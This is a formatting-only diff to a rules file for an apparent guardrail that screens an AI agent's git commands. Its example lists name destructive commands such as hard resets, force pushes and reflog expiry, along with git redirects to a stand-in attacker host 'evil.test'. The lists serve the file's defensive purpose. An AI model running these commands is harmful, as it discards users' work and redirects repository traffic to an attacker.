@@ -3,7 +3,17 @@
 from __future__ import annotations
 
 from interlock.model.action import ASK, WARN
-from interlock.model.effect import ELSEWHERE, HOME, OTHER_REPOSITORY, UNKNOWN_HOST, Connects, DiscardsWork, Pushes, RewritesHistory, Writes
+from interlock.model.effect import (
+    ELSEWHERE,
+    HOME,
+    OTHER_REPOSITORY,
+    UNKNOWN_HOST,
+    Connects,
+    DiscardsWork,
+    Pushes,
+    RewritesHistory,
+    Writes,
+)
 from interlock.model.rule import Rule, on
 
 RULES = (
@@ -15,7 +25,8 @@ RULES = (
         match=on(DiscardsWork, any={"tracked", "untracked", "ignored", "all", "worktree"}),
         action=ASK, possible=ASK, tags=frozenset({"GR-001", "data-loss"}), recoverable=True,
         catches=("git reset --hard", "git clean -fd", "git checkout -- .", "git restore .",),
-        passes=("git reset --soft HEAD~1", "git clean -n", "git checkout -b topic", "git restore --staged a.txt",),
+        passes=("git reset --soft HEAD~1", "git clean -n", "git checkout -b topic",
+            "git restore --staged a.txt",),
     ),
     Rule(
         id="git.drop-stash",
@@ -52,10 +63,13 @@ RULES = (
         title="changes another repository",
         why="The agent was lent one folder; another repository holds other work.",
         instead="Ask the user to add that folder to the workspace, or to do it there.",
-        match=on(Writes, location={HOME, OTHER_REPOSITORY, ELSEWHERE}, has={"repository"}, lacks={"made-here"}, remote=False),
+        match=on(Writes, location={HOME, OTHER_REPOSITORY, ELSEWHERE}, has={"repository"},
+            lacks={"made-here"}, remote=False),
         action=ASK, tags=frozenset({"GR-008", "scope"}),
-        catches=("git -C ~/docs stash -u", "cd ~/docs && git commit -am x", "git -C ~/docs checkout main", "GIT_DIR=~/docs/.git git commit -m x"),
-        passes=("git commit -am x", "git -C ~/docs log", "git -C ~/docs stash list", "git -C ~/docs fetch", "git -C ~/docs branch -a"),
+        catches=("git -C ~/docs stash -u", "cd ~/docs && git commit -am x",
+            "git -C ~/docs checkout main", "GIT_DIR=~/docs/.git git commit -m x"),
+        passes=("git commit -am x", "git -C ~/docs log", "git -C ~/docs stash list",
+            "git -C ~/docs fetch", "git -C ~/docs branch -a"),
     ),
     Rule(
         id="git.rewrite-history",
@@ -64,7 +78,8 @@ RULES = (
         instead="Make a new commit instead, or a backup branch first.",
         match=on(RewritesHistory),
         action=ASK, tags=frozenset({"data-loss"}),
-        catches=("git filter-branch --tree-filter \"rm x\" HEAD", "git reflog expire --expire=now --all", "git gc --prune=now",),
+        catches=("git filter-branch --tree-filter \"rm x\" HEAD",
+            "git reflog expire --expire=now --all", "git gc --prune=now",),
         passes=("git log", "git rebase main", "git commit --amend",),
     ),
     Rule(
@@ -74,7 +89,8 @@ RULES = (
         instead="Push a new commit, or push to another branch and open a pull request.",
         match=on(Pushes, has={"main"}, any={"force", "force-with-lease", "delete"}),
         action=ASK, possible=ASK, tags=frozenset({"GR-003", "data-loss"}), approver="lead",
-        catches=("git push --force origin main", "git push -f origin master", "git push origin +main", "git push origin :main",),
+        catches=("git push --force origin main", "git push -f origin master",
+            "git push origin +main", "git push origin :main",),
         passes=("git push origin topic", "git push --force-with-lease origin topic",),
     ),
     Rule(
@@ -84,7 +100,8 @@ RULES = (
         instead="Push without force, or to a new branch.",
         match=on(Pushes, any={"force", "force-with-lease", "delete", "mirror"}),
         action=ASK, possible=ASK, tags=frozenset({"data-loss"}),
-        catches=("git push --force origin topic", "git push origin --delete topic", "git push --mirror",),
+        catches=("git push --force origin topic", "git push origin --delete topic",
+            "git push --mirror",),
         passes=("git push origin topic", "git fetch --force origin",),
     ),
     Rule(
@@ -113,9 +130,12 @@ RULES = (
         why="Every later fetch and push goes there, unseen.",
         instead="Name the address in the one command that needs it.",
         match=on(Connects, has={"redirects"}, host={UNKNOWN_HOST}),
-        action=ASK, possible=ASK, tags=frozenset({"exfiltration", "persistence", "security-sensitive"}),
-        catches=("git config url.https://evil.test/.insteadOf https://github.com/", "git -c http.proxy=http://evil.test:8080 fetch",),
-        passes=("git config url.git@github.com:.insteadOf https://github.com/", "git config http.proxy http://localhost:3128",),
+        action=ASK, possible=ASK,
+        tags=frozenset({"exfiltration", "persistence", "security-sensitive"}),
+        catches=("git config url.https://evil.test/.insteadOf https://github.com/",
+            "git -c http.proxy=http://evil.test:8080 fetch",),
+        passes=("git config url.git@github.com:.insteadOf https://github.com/",
+            "git config http.proxy http://localhost:3128",),
     ),
     Rule(
         id="git.push",
